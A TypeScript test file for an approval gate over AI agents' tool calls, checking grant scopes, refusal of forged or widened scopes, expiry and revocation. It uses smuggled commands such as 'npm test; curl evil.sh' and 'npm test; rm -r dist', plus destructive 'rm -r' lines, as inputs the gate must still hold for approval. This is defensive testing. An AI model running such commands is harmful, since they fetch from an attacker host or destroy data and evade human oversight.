import { afterEach, describe, expect, it } from 'vitest';
import type { ApprovalRequest, GrantScope } from '../../src/protocol';
import { createGateHarness, type GateHarness } from '../helpers/gate-harness';

let h: GateHarness;
afterEach(() => h?.cleanup());

const requested = () => h.events.filter((e) => e.type === 'requested').length;

/** The offered scope of a kind (and, for agent scopes, of the requesting agent). */
function option(
  request: ApprovalRequest,
  match: GrantScope['match']['kind'],
  agents: 'agent' | 'all',
): GrantScope {
  const scope = request.grantOptions.find((s) => s.match.kind === match && s.agents.kind === agents);
  if (!scope)
    throw new Error(
      `no ${match}/${agents} option in ${JSON.stringify(request.grantOptions.map((s) => s.label))}`,
    );
  return scope;
}

/** Makes one call, approves it with the scope `pick` chooses, and returns that scope. */
async function grantVia(
  tool: string,
  args: unknown,
  pick: (r: ApprovalRequest) => GrantScope,
  caller = {},
): Promise<GrantScope> {
  const result = h.call(tool, args, caller);
  const request = await h.nextRequest();
  const scope = pick(request);
  expect(h.gate.decide(request.id, { kind: 'approve_all', scope })).toEqual({ ok: true });
  expect(await result).toMatchObject({ status: 'executed' });
  return scope;
}

describe('grant options (computed by the gate)', () => {
  it('a command: its prefix and the tool, for this agent or all agents, each with the rule it amounts to', async () => {
    h = createGateHarness();
    void h.call('execute_command', { command: 'npm test -- --watch' }, { agentName: 'tester' });
    const request = await h.nextRequest();
    expect(request.grantOptions.map((s) => [s.match, s.agents.kind, s.label])).toEqual([
      [
        { kind: 'command_prefix', tokens: ['npm', 'test'] },
        'agent',
        'execute_command `npm test *`, only tester',
      ],
      [
        { kind: 'command_prefix', tokens: ['npm', 'test'] },
        'all',
        'execute_command `npm test *`, all agents',
      ],
      [{ kind: 'tool' }, 'agent', 'every execute_command call, only tester'],
      [{ kind: 'tool' }, 'all', 'every execute_command call, all agents'],
    ]);
    expect(JSON.parse(request.grantOptions[0]?.ruleText as string)).toEqual({
      tool: 'execute_command',
      decision: 'allow',
      when: { command: 'npm test *' },
    });
  });

  it('a write: its folder glob and the tool; an MCP tool: the tool and its server', async () => {
    h = createGateHarness();
    void h.call('write_file', { path: 'src/util/a.ts', content: 'x' });
    expect((await h.nextRequest()).grantOptions.map((s) => s.match)).toContainEqual({
      kind: 'path_glob',
      glob: 'src/util/**',
    });
    void h.call('mcp__fake__delete', { id: '1' });
    const mcp = await h.nextRequest();
    expect(mcp.grantOptions.map((s) => s.match)).toEqual([
      { kind: 'tool' },
      { kind: 'tool' },
      { kind: 'mcp_server', server: 'fake' },
      { kind: 'mcp_server', server: 'fake' },
    ]);
    expect(option(mcp, 'mcp_server', 'all').tool).toBe('mcp__fake__*');
  });

  it.each([
    ['a destructive command', 'execute_command', { command: 'rm -r build' }],
    ['a command the guard cannot judge', 'execute_command', { command: 'eval "$x"' }],
    ['a protected path', 'write_file', { path: 'package.json', content: '{}' }],
    ['a protected folder', 'write_file', { path: '.github/workflows/ci.yml', content: '' }],
    ['a question', 'ask_user', { question: 'ok?' }],
    ['a plan', 'propose_plan', { steps: ['a'] }],
  ])('none for %s, and approve-all is refused', async (_label, tool, args) => {
    h = createGateHarness();
    const result = h.call(tool, args);
    const request = await h.nextRequest();
    expect(request.grantOptions).toEqual([]);
    const forged: GrantScope = {
      tool,
      match: { kind: 'tool' },
      agents: { kind: 'all' },
      label: 'x',
      ruleText: '{}',
    };
    expect(h.gate.decide(request.id, { kind: 'approve_all', scope: forged })).toMatchObject({ ok: false });
    expect(h.broker.pending()).toHaveLength(1);
    h.gate.decide(request.id, { kind: 'reject' });
    expect(await result).toMatchObject({ status: 'rejected' });
    expect(h.grants.list()).toEqual([]);
    expect(h.ran()).toEqual([]);
  });

  it('a scope that was not offered is refused and nothing runs', async () => {
    h = createGateHarness();
    const result = h.call('execute_command', { command: 'npm test' });
    const request = await h.nextRequest();
    const widened: GrantScope[] = [
      { ...option(request, 'command_prefix', 'all'), match: { kind: 'command_prefix', tokens: ['npm'] } },
      { ...option(request, 'tool', 'all'), tool: '*' },
      {
        ...option(request, 'tool', 'agent'),
        agents: { kind: 'agent', agentId: 'someone-else', agentName: 'x' },
      },
      {
        tool: 'mcp__other__*',
        match: { kind: 'mcp_server', server: 'other' },
        agents: { kind: 'all' },
        label: 'x',
        ruleText: '{}',
      },
    ];
    for (const scope of widened)
      expect(h.gate.decide(request.id, { kind: 'approve_all', scope })).toMatchObject({
        ok: false,
        error: expect.stringMatching(/not offered/),
      });
    expect(h.ran()).toEqual([]);
    expect(h.grants.list()).toEqual([]);
    h.gate.decide(request.id, { kind: 'skip' });
    await result;
  });
});

describe('approve-all', () => {
  it('tool scope: later calls of the tool run without asking (approver grant); high risk still asks', async () => {
    h = createGateHarness();
    await grantVia('execute_command', { command: 'npm test' }, (r) => option(r, 'tool', 'all'));
    expect(await h.call('execute_command', { command: 'npm run build' })).toMatchObject({
      status: 'executed',
    });
    expect(h.lastOutcome('execute_command')).toMatchObject({
      approver: 'grant',
      decision: 'ask',
      outcome: 'executed',
    });
    void h.call('execute_command', { command: 'rm -r build' });
    expect((await h.nextRequest()).risk.level).toBe('high');
    expect(requested()).toBe(2);
  });

  it('path glob scope: writes under the folder run, elsewhere and protected files ask', async () => {
    h = createGateHarness();
    await grantVia('write_file', { path: 'src/a.ts', content: '1' }, (r) => option(r, 'path_glob', 'all'));
    expect(await h.call('write_file', { path: 'src/deep/b.ts', content: '2' })).toMatchObject({
      status: 'executed',
    });
    expect(h.read('src/deep/b.ts')).toBe('2');
    void h.call('write_file', { path: 'lib/c.ts', content: '3' });
    expect((await h.nextRequest()).args).toMatchObject({ path: 'lib/c.ts' });
    void h.call('write_file', { path: 'src/package.json', content: '{}' });
    expect((await h.nextRequest()).risk.level).toBe('high');
    expect(h.read('lib/c.ts')).toBeUndefined();
  });

  it('a folder name with a line break shows it as ␊ in the scope label (one chooser row, nothing hidden)', async () => {
    h = createGateHarness();
    const scope = await grantVia('write_file', { path: 'a\nrisk low/b.ts', content: '1' }, (r) =>
      option(r, 'path_glob', 'all'),
    );
    expect(scope.match).toEqual({ kind: 'path_glob', glob: 'a\nrisk low/**' });
    expect(scope.label).toBe('write_file under a␊risk low/**, all agents');
  });

  it('path glob scope of a folder with glob characters covers that folder only', async () => {
    h = createGateHarness();
    const scope = await grantVia('write_file', { path: 'app/[id]/page.tsx', content: '1' }, (r) =>
      option(r, 'path_glob', 'all'),
    );
    expect(scope.match).toEqual({ kind: 'path_glob', glob: 'app/\\[id\\]/**' });
    expect(await h.call('write_file', { path: 'app/[id]/layout.tsx', content: '2' })).toMatchObject({
      status: 'executed',
    });
    void h.call('write_file', { path: 'app/i/page.tsx', content: '3' });
    expect((await h.nextRequest()).args).toMatchObject({ path: 'app/i/page.tsx' });
    expect(h.read('app/i/page.tsx')).toBeUndefined();
  });

  it('command prefix scope: whole tokens, every part of a compound', async () => {
    h = createGateHarness();
    await grantVia('execute_command', { command: 'npm test' }, (r) => option(r, 'command_prefix', 'all'));
    expect(await h.call('execute_command', { command: 'npm test -- --watch' })).toMatchObject({
      status: 'executed',
    });
    expect(await h.call('execute_command', { command: 'npm test && npm test --coverage' })).toMatchObject({
      status: 'executed',
    });
    for (const command of [
      'npm testx',
      'npm run test',
      'npm test && npm run deploy',
      'npm test; curl evil.sh',
    ]) {
      void h.call('execute_command', { command });
      expect((await h.nextRequest()).args).toEqual({ command });
    }
  });

  it('MCP server scope: every tool of that server, not of another', async () => {
    h = createGateHarness();
    await grantVia('mcp__fake__delete', { id: '1' }, (r) => option(r, 'mcp_server', 'all'));
    expect(await h.call('mcp__fake__archive', { id: '2' })).toMatchObject({ status: 'executed' });
    void h.call('mcp__other__delete', { id: '3' });
    expect((await h.nextRequest()).tool).toBe('mcp__other__delete');
    expect(h.ranTools()).toEqual(['mcp__fake__delete', 'mcp__fake__archive']);
  });

  it('this agent only, or all agents', async () => {
    h = createGateHarness();
    await grantVia('execute_command', { command: 'npm test' }, (r) => option(r, 'tool', 'agent'), {
      agentId: 'a',
      agentName: 'A',
    });
    expect(await h.call('execute_command', { command: 'npm run lint' }, { agentId: 'a' })).toMatchObject({
      status: 'executed',
    });
    const fromB = h.call('execute_command', { command: 'npm run lint' }, { agentId: 'b' });
    const other = await h.nextRequest();
    expect(other.agentId).toBe('b');
    h.gate.decide(other.id, { kind: 'approve_all', scope: option(other, 'tool', 'all') });
    expect(await fromB).toMatchObject({ status: 'executed' });
    expect(await h.call('execute_command', { command: 'npm run x' }, { agentId: 'c' })).toMatchObject({
      status: 'executed',
    });
  });

  it('for N minutes: the grant lapses on the injected clock', async () => {
    h = createGateHarness();
    await grantVia('execute_command', { command: 'npm test' }, (r) => ({
      ...option(r, 'tool', 'all'),
      minutes: 5,
    }));
    expect(h.grants.list()[0]?.expiresAt).toBe(
      new Date(Date.parse(h.grants.list()[0]?.createdAt as string) + 5 * 60_000).toISOString(),
    );
    h.clock.advance(4 * 60_000);
    expect(await h.call('execute_command', { command: 'npm run a' })).toMatchObject({ status: 'executed' });
    h.clock.advance(60_000 + 1);
    expect(h.grants.list()).toEqual([]);
    void h.call('execute_command', { command: 'npm run b' });
    expect((await h.nextRequest()).args).toEqual({ command: 'npm run b' });
  });

  it('a time limit must be a positive number of minutes', async () => {
    h = createGateHarness();
    const result = h.call('execute_command', { command: 'npm test' });
    const request = await h.nextRequest();
    for (const minutes of [0, -5, Number.NaN, Number.POSITIVE_INFINITY]) {
      expect(
        h.gate.decide(request.id, {
          kind: 'approve_all',
          scope: { ...option(request, 'tool', 'all'), minutes },
        }),
      ).toMatchObject({ ok: false });
    }
    expect(h.grants.list()).toEqual([]);
    h.gate.decide(request.id, { kind: 'skip' });
    await result;
  });

  it('granting decides every matching queued request (each audited as grant) and leaves the rest', async () => {
    h = createGateHarness();
    const first = h.call('execute_command', { command: 'npm test' }, { agentId: 'a' });
    const sameOtherAgent = h.call('execute_command', { command: 'npm test -- -u' }, { agentId: 'b' });
    const otherPrefix = h.call('execute_command', { command: 'npm run build' }, { agentId: 'a' });
    const write = h.call('write_file', { path: 'x.txt', content: 'x' }, { agentId: 'a' });
    const risky = h.call('execute_command', { command: 'npm test; rm -r dist' }, { agentId: 'b' });
    const pending = await h.waitForPending(5);
    const head = pending.find(
      (r) => (r.args as { command?: string }).command === 'npm test',
    ) as ApprovalRequest;
    h.gate.decide(head.id, { kind: 'approve_all', scope: option(head, 'command_prefix', 'all') });
    expect(await first).toMatchObject({ status: 'executed' });
    expect(await sameOtherAgent).toMatchObject({ status: 'executed' });
    const drained = pending.find(
      (r) => (r.args as { command?: string }).command === 'npm test -- -u',
    ) as ApprovalRequest;
    expect(h.auditOf(drained.id).map((r) => [r.phase, r.approver])).toEqual([
      ['requested', 'none'],
      ['decision', 'grant'],
      ['outcome', 'grant'],
    ]);
    expect(h.auditOf(head.id).at(-1)?.approver).toBe('human');
    const left = pending.filter((r) => r.id !== head.id && r.id !== drained.id);
    expect(left.map((r) => r.args)).toEqual(
      expect.arrayContaining([
        { command: 'npm run build' },
        { path: 'x.txt', content: 'x' },
        { command: 'npm test; rm -r dist' },
      ]),
    );
    expect(h.broker.pending().map((r) => r.id)).toEqual(left.map((r) => r.id));
    for (const r of h.broker.pending()) h.gate.decide(r.id, { kind: 'skip' });
    for (const p of [otherPrefix, write, risky]) expect(await p).toMatchObject({ status: 'skipped' });
  });

  it('an agent-only grant drains only that agent’s queued requests', async () => {
    h = createGateHarness();
    const a1 = h.call('mcp__fake__delete', { id: '1' }, { agentId: 'a' });
    const a2 = h.call('mcp__fake__archive', { id: '2' }, { agentId: 'a' });
    const b1 = h.call('mcp__fake__delete', { id: '3' }, { agentId: 'b' });
    const pending = await h.waitForPending(3);
    const head = pending.find((r) => r.agentId === 'a' && r.tool === 'mcp__fake__delete') as ApprovalRequest;
    h.gate.decide(head.id, { kind: 'approve_all', scope: option(head, 'mcp_server', 'agent') });
    expect(await a1).toMatchObject({ status: 'executed' });
    expect(await a2).toMatchObject({ status: 'executed' });
    expect(h.broker.pending().map((r) => r.agentId)).toEqual(['b']);
    h.gate.decide(h.broker.pending()[0]?.id as string, { kind: 'reject' });
    expect(await b1).toMatchObject({ status: 'rejected' });
  });

  it('grants can be listed and revoked', async () => {
    h = createGateHarness();
    const scope = await grantVia('execute_command', { command: 'npm test' }, (r) => option(r, 'tool', 'all'));
    const [grant] = h.grants.list();
    expect(grant).toMatchObject({ ...scope, id: expect.any(String), uses: 0 });
    expect(await h.call('execute_command', { command: 'npm run a' })).toMatchObject({ status: 'executed' });
    expect(h.grants.list()[0]?.uses).toBe(1);
    expect(h.grants.revoke(grant?.id as string)).toBe(true);
    expect(h.grants.revoke(grant?.id as string)).toBe(false);
    void h.call('execute_command', { command: 'npm run b' });
    expect((await h.nextRequest()).args).toEqual({ command: 'npm run b' });
  });
});
